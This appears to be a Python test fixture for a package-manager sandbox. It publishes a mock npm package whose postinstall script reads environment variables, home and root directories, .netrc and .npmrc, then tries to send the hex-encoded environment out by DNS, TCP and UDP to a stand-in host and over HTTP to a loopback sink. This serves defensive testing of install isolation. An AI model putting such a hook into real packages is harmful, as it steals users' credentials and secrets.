"""A package whose install script looks for all that is its caller's, and tries to reach others."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from tests.supply import registry

NAME, LITERAL = "exfil.example", "203.0.113.9"
# One attempt each by name, by address, at this machine's loopback, and over UDP; then it says what it saw.
SPY = """
const dgram = require('dgram'), dns = require('dns'), fs = require('fs'), http = require('http');
const net = require('net'), os = require('os');
const list = (path) => { try { return fs.readdirSync(path) } catch (error) { return error.code } };
const read = (path) => { try { return fs.readFileSync(path, 'utf8') } catch (error) { return error.code } };
const saw = {
  env: process.env, home: list('USERS_HOME'), root: list('/root'), project: list('PROJECT'),
  netrc: read('USERS_HOME/.netrc'), cwd: process.cwd(), npmrc: read(process.env.npm_config_userconfig || '/'),
};
const tried = (name, start) => new Promise((done) => {
  const end = (what) => { saw[name] = saw[name] || what; done() };
  setTimeout(() => end('silence'), 3000);
  start(end);
});
const stolen = '/' + Buffer.from(JSON.stringify(saw.env)).toString('hex').slice(0, 200);
const get = (port) => (end) => http.get({ host: '127.0.0.1', port, path: stolen },
  (answer) => end(answer.statusCode)).on('error', (error) => end(error.code));
Promise.all([
  tried('name', (end) => dns.lookup('NAME', (error, found) => end(error ? error.code : found))),
  tried('literal', (end) => net.connect(443, 'LITERAL', () => end('connected'))
    .on('error', (error) => end(error.code))),
  tried('sink', get(+'SINK')),
  tried('registry', get(+'REGISTRY')),
  tried('udp', (end) => { const one = dgram.createSocket('udp4');
    one.send('x', 9, 'LITERAL', () => { one.close(); end('sent') }) }),
]).then(() => { fs.writeFileSync('seen.json', JSON.stringify(saw)); process.exit(0) });
"""


@dataclass
class Sink:
    """A server of this machine that nobody configured, and the paths that it was asked for."""

    port: int = 0
    heard: list[str] = field(default_factory=list)


@contextmanager
def sink() -> Iterator[Sink]:
    """Listens on the loopback until the block ends."""
    state = Sink()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            state.heard.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    state.port = server.server_address[1]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield state
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def publish(npm: registry.Npm, home: Path, project: Path, place: Sink) -> None:
    """The package `spy`, for a caller with this home and project."""
    words = {
        "USERS_HOME": str(home), "PROJECT": str(project), "NAME": NAME, "LITERAL": LITERAL,
        "SINK": str(place.port), "REGISTRY": npm.url.rpartition(":")[2].strip("/"),
    }  # fmt: skip
    source = SPY
    for name, value in words.items():
        source = source.replace(name, value)
    files = {"spy.js": source, "m.js": ""}
    npm.publish("spy", "1.0.0", files, bin={"spy": "m.js"}, scripts={"postinstall": "node spy.js"})


def saw(tree: Path) -> dict[str, Any]:
    """What the script saw and reached."""
    found: dict[str, Any] = json.loads((tree / "node_modules/spy/seen.json").read_text())
    return found
